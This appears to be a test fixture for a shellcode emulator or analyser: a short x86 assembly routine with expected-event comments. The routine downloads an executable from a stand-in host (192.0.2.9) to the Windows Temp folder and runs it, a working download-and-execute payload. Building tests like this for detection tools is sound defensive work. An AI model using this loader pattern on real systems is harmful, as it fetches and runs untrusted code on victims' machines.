; SPDX-License-Identifier: GPL-2.0-or-later
; A file is fetched and run.
; expect: fetch http://192.0.2.9:8000/a.exe
; expect: connect 192.0.2.9 8000
; expect: write C:\Windows\Temp\q.exe
; expect: exec C:\Windows\Temp\q.exe C:\Windows\Temp\q.exe
%include "way32.inc"
	function "urlmon.dll", "URLDownloadToFileA"
	push 0
	push 0
	text "C:\Windows\Temp\q.exe"
	text "http://192.0.2.9:8000/a.exe"
	push 0
	call eax
	function "kernel32.dll", "WinExec"
	push 0
	text "C:\Windows\Temp\q.exe"
	call eax
	function "kernel32.dll", "ExitProcess"
	push 0
	call eax
